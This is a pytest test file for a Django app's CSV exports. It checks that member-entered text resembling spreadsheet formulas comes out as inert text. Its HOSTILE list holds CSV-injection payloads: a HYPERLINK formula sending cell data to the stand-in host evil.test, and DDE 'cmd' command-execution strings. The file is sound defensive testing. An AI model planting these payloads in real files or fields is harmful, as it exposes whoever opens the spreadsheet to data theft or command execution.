"""Every CSV export is safe to open in a spreadsheet: what members typed never runs as a formula.

A member named `=HYPERLINK(…)` (or an action, a role, a stakeholder so named) comes out as text,
with the leading apostrophe spreadsheets read as "this is text".
"""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from conftest import make_member, make_user
from terreau.communities.models import Role, RoleAssignment, RoleKind, Theme
from terreau.core.csv import FORMULA_START
from terreau.definition.models import Stakeholder
from terreau.launch.models import Action

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.test/?d="&A1;"Cliquez ici")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Each export and the planted values it carries (see `plant`).
CSV_EXPORTS = {
    "communities:who_does_what_csv": [HOSTILE[0], HOSTILE[1], HOSTILE[3]],
    "launch:actions_csv": [HOSTILE[0], HOSTILE[2], HOSTILE[3]],
    "definition:stakeholders_csv": [HOSTILE[0], HOSTILE[1], HOSTILE[4], HOSTILE[5]],
}


def plant(cast):
    """Hostile text wherever a CSV export writes what people typed."""
    community = cast.community
    hostile_user = make_user("formule@x.test", HOSTILE[0], organisation=HOSTILE[1])
    hostile = make_member(community, hostile_user)
    role = Role.objects.create(community=community, name=HOSTILE[3], hours_per_month=2)
    RoleAssignment.objects.create(role=role, membership=hostile)
    action = Action.objects.create(
        community=community,
        title=HOSTILE[0],
        description=HOSTILE[2],
        theme=Theme.objects.create(community=community, name=HOSTILE[3]),
        due_date=timezone.localdate() + timedelta(days=10),
    )
    action.owners.set([hostile])
    Stakeholder.objects.create(
        community=community,
        name=HOSTILE[0],
        organisation=HOSTILE[4],
        contact=HOSTILE[1],
        notes=HOSTILE[5],
        interest=3,
        influence=3,
        visibility="members",
    )


def csv_url_names() -> set[str]:
    def walk(patterns, namespace=None):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, pattern.namespace or namespace)
            elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv"):
                yield f"{namespace}:{pattern.name}" if namespace else pattern.name

    return set(walk(get_resolver().url_patterns))


# Exports whose hostile cells are planted and checked beside their app's own data.
CHECKED_ELSEWHERE = {
    "audit:csv": "terreau/audit/tests/test_views.py::test_hostile_names_are_inert_in_the_csv",
    "decisions:log_csv": "test_a_decision_named_like_a_formula_comes_out_inert",
    "surveys:results_csv": "test_a_survey_answer_written_like_a_formula_comes_out_inert",
    "stats:csv": "test_the_statistics_export_holds_figures_only",
}


def test_every_csv_export_is_checked_here():
    assert csv_url_names() == set(CSV_EXPORTS) | set(CHECKED_ELSEWHERE)


@pytest.mark.parametrize("name", sorted(CSV_EXPORTS))
def test_hostile_names_come_out_inert(client, cast, name):
    plant(cast)
    client.force_login(cast.core_member)
    response = client.get(reverse(name, args=[cast.community.slug]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    content = response.content.decode("utf-8")
    assert content.startswith("\ufeff")  # spreadsheets then read the accents right
    cells = [cell for row in csv.reader(io.StringIO(content[1:]), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    for text in CSV_EXPORTS[name]:
        assert "'" + text in cells  # as text, not as a formula


def test_role_holders_and_kinds_still_read_plainly(client, cast):
    """The guard touches only cells that start like a formula."""
    RoleAssignment.objects.get_or_create(
        role=Role.objects.get(community=cast.community, kind=RoleKind.LOGISTICS),
        membership=cast.membership(cast.member),
    )
    client.force_login(cast.member)
    content = client.get(reverse("communities:who_does_what_csv", args=[cast.community.slug])).content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    julie = next(row for row in rows if row[0] == "Julie Martin")
    assert julie[1] == "GAL Entre-Sambre-et-Meuse" and "x" in julie


def _rows(response) -> list[str]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    content = raw.decode("utf-8")
    assert content.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(content[1:]), delimiter=";") for cell in row]


def test_a_decision_named_like_a_formula_comes_out_inert(client, cast):
    from terreau.circles.services import core_team_circle
    from terreau.decisions.models import Proposal, State

    Proposal.objects.create(
        community=cast.community,
        circle=core_team_circle(cast.community),
        proposer=cast.core_member,
        title=HOSTILE[0],
        text=HOSTILE[2],
        deadline=timezone.now(),
        state=State.ADOPTED,
        decided_at=timezone.now(),
    )
    client.force_login(cast.core_member)
    cells = _rows(client.get(reverse("decisions:log_csv", args=[cast.community.slug])))
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'" + HOSTILE[0] in cells


def test_a_survey_answer_written_like_a_formula_comes_out_inert(client, cast):
    from terreau.surveys import services as surveys
    from terreau.surveys.tests.factories import full_answers, make_survey

    survey = make_survey(cast, is_anonymous=False)
    surveys.response_submit(survey=survey, answers=full_answers(survey, text=HOSTILE[3]), user=cast.member)
    client.force_login(cast.core_member)
    cells = _rows(client.get(reverse("surveys:results_csv", args=[cast.community.slug, survey.pk])))
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'" + HOSTILE[3] in cells


def test_the_statistics_export_holds_figures_only(client, cast):
    client.force_login(cast.core_member)
    cells = _rows(client.get(reverse("stats:csv", args=[cast.community.slug])))
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_START)]
